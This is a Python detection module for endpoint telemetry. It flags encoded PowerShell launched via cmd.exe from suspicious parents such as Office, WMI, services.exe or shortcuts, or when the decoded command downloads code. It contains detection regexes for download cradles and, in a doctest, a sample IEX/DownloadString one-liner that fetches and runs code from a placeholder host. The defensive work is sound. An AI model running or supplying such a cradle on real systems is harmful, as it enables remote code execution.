"""The ``cmd_stager`` host-finding rule: an encoded PowerShell started through ``cmd.exe``.

``script_stager`` (:mod:`analytics.host_finding_rules`) reads the parent of an encoded PowerShell: a
script host or Office.  A lure that goes through ``cmd /c powershell -enc ...`` has ``cmd.exe`` for
parent and passed it.  This rule reads one hop further, in the host's own process creations (Sysmon 1,
4688: the ``cmd.exe`` creation by its GUID, else by pid, names *its* parent):

* the ``cmd.exe`` was started by a script host, Office, ``services.exe`` (a service whose command is the
  stager, psexec's shape) or WMI (``WmiPrvSE.exe``, a remote ``Win32_Process.Create``); or
* the decoded command downloads code and runs it or names where from (a download cradle), whoever
  started ``cmd.exe``.

Not matched, on purpose: ``cmd /c powershell -enc`` from an installer, an agent or a user's shell whose
decoded text downloads nothing.  Installers and management agents do pass encoded commands through
``cmd`` (to survive their own quoting); what they run is configuration, not a download.  The real
corpus's Sigma sample (``cmd /c powershell -e`` running ``Invoke-WmiMethod ... notepad.exe``, its cmd's
parent not logged) is such a near miss.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping

from analytics.host_finding_rules import CMD_STAGER, ENCODED_SWITCH, STAGER_PARENTS
from analytics.host_findings import PROCESS_CREATES, Hit

__all__ = ["CHAIN_STARTERS", "DOWNLOAD_CRADLE", "SHORTCUT_STARTERS", "chain_hits", "is_download_cradle"]

CHAIN_STARTERS = STAGER_PARENTS | {"services.exe", "wmiprvse.exe", "rundll32.exe", "regsvr32.exe"}
"""Who may start the ``cmd.exe`` for the chain to be a finding: script hosts, Office, the service
manager, WMI's provider host, and rundll32/regsvr32 (a DLL or scriptlet run by a signed proxy, T1218:
no product's DLL starts a shell to run encoded PowerShell).  Installers are not among them."""
SHORTCUT_STARTERS = frozenset({"explorer.exe"})
"""Who starts the ``cmd.exe`` when a user opens a shortcut (LNK, T1204.002): a finding only when the
``cmd.exe`` was started *to run* the encoded PowerShell (its own command line runs it, the LNK's target),
not a prompt the user opened from the Start menu and typed in (``cmd.exe`` bare, the admin's shell)."""

_DOWNLOAD = re.compile(r"downloadstring|downloadfile|downloaddata|openread\b|invoke-webrequest|\biwr\b"
                       r"|invoke-restmethod|\birm\b|start-bitstransfer|net\.webclient|net\.http\.httpclient"
                       r"|msxml2\.xmlhttp|winhttp\.winhttprequest", re.I)
_RUN_OR_SOURCE = re.compile(r"\biex\b|invoke-expression|scriptblock\]::create|\b(https?|ftp)://", re.I)
DOWNLOAD_CRADLE = (_DOWNLOAD, _RUN_OR_SOURCE)
"""A download call, and code run from it (``IEX``, ``[scriptblock]::Create``) or the URL it fetches."""

_POWERSHELL = frozenset({"powershell.exe", "pwsh.exe"})
_RUNS_POWERSHELL = re.compile(r"\b(powershell|pwsh)(\.exe)?\b", re.I)
"""A ``cmd.exe`` command line that runs PowerShell (``cmd /c powershell -enc ...``)."""


def is_download_cradle(decoded: str) -> bool:
    """Whether decoded PowerShell text downloads and runs code, or downloads from a URL it names.

    >>> is_download_cradle("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")
    True
    >>> is_download_cradle("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe")
    False
    >>> is_download_cradle("Get-Content C:\\\\logs\\\\download.txt | iex")
    False
    """
    return all(pattern.search(decoded) for pattern in DOWNLOAD_CRADLE)


def chain_hits(host: str, events: Iterable[tuple[str, str, float, Mapping[str, object]]]) -> list[Hit]:
    """The ``cmd_stager`` hits among one host's events ``(event id, kind, ts, fields)``.

    A ``cmd.exe`` is matched on its own creation too (``cmd /c powershell -enc`` started by a script
    host), so a host whose PowerShell's creation was not logged still shows; one act logged as both
    is one hit by the copies rule of :mod:`analytics.host_findings` only when its subject is the same,
    so the child PowerShell's hit is preferred and the ``cmd.exe``'s kept when no child was seen.
    """
    creates = [(e, k, t, f) for e, k, t, f in events if k in PROCESS_CREATES]
    starter_by_guid: dict[str, str] = {}
    starters_by_pid: dict[str, list[tuple[float, str]]] = {}  # pid -> (created, parent) of each cmd.exe given it
    for _, _, ts, fields in creates:
        if _name(fields.get("process.executable")) == "cmd.exe":
            parent = _starter(fields)
            if fields.get("process.guid"):
                starter_by_guid[str(fields["process.guid"]).lower()] = parent
            if fields.get("process.pid") is not None:
                starters_by_pid.setdefault(str(fields["process.pid"]), []).append((ts, parent))
    hits: list[Hit] = []
    children_of: set[str] = set()
    for event_id, _, ts, fields in creates:
        if _name(fields.get("process.executable")) not in _POWERSHELL or _name(fields.get("process.parent.executable")) != "cmd.exe":
            continue
        guid = str(fields.get("process.parent.guid") or "").lower()
        starter = starter_by_guid.get(guid) if guid else None
        if starter is None:  # Windows reuses pids: the cmd.exe holding it then, the last created by then
            held = [(at, parent) for at, parent in starters_by_pid.get(str(fields.get("process.parent.pid")), ())
                    if at <= ts]
            starter = max(held)[1] if held else None
        hit = _hit(host, event_id, ts, fields, starter)
        if hit is not None:
            hits.append(hit)
            children_of.add(guid or str(fields.get("process.parent.pid")))
    for event_id, _, ts, fields in creates:
        if _name(fields.get("process.executable")) != "cmd.exe":
            continue
        if str(fields.get("process.guid") or "").lower() in children_of or str(fields.get("process.pid")) in children_of:
            continue
        command = _text(fields.get("process.command_line"))
        if _RUNS_POWERSHELL.search(command):
            hit = _hit(host, event_id, ts, fields, _starter(fields), via_cmd=True)
            if hit is not None:
                hits.append(hit)
    return hits


def _hit(host: str, event_id: str, ts: float, fields: Mapping[str, object], starter: str | None,
         *, via_cmd: bool = False) -> Hit | None:
    command = _text(fields.get("process.command_line"))
    if not command or not ENCODED_SWITCH.search(command):
        return None
    decoded = _text(fields.get("process.command_line_decoded"))
    image = _text(fields.get("process.executable"))
    who = "cmd.exe" if via_cmd else "PowerShell with an encoded command (-enc) through cmd.exe"
    if starter in SHORTCUT_STARTERS:
        starter = f"{starter} (a shortcut's target)"
        detail = f"{who} started by {starter}" if not via_cmd else f"cmd.exe running an encoded PowerShell, started by {starter}"
    elif starter in CHAIN_STARTERS:
        detail = f"{who} started by {starter}" if not via_cmd else f"cmd.exe running an encoded PowerShell, started by {starter}"
    elif decoded and is_download_cradle(decoded):
        detail = (f"{'cmd.exe running an encoded PowerShell' if via_cmd else who} whose decoded command downloads "
                  "code (a download cradle)")
    else:
        return None
    return Hit(host, CMD_STAGER, ts, event_id, image, command,
               f"{image.lower()}|{' '.join(command.lower().split())}", detail,
               _text(fields.get("process.parent.executable")), _text(fields.get("process.hash.sha256")).lower())


def _starter(cmd: Mapping[str, object]) -> str:
    """Who started a ``cmd.exe`` creation, as the chain reads it: its parent's name, but Explorer only when
    the cmd runs PowerShell itself (a shortcut's target), else ``explorer.exe (prompt)``, no starter."""
    parent = _name(cmd.get("process.parent.executable"))
    if parent in SHORTCUT_STARTERS and not _RUNS_POWERSHELL.search(_text(cmd.get("process.command_line"))):
        return f"{parent} (prompt)"
    return parent


def _text(value: object) -> str:
    return "" if value is None else str(value).strip()


def _name(path: object) -> str:
    return _text(path).strip('"').replace("/", "\\").rpartition("\\")[2].lower()
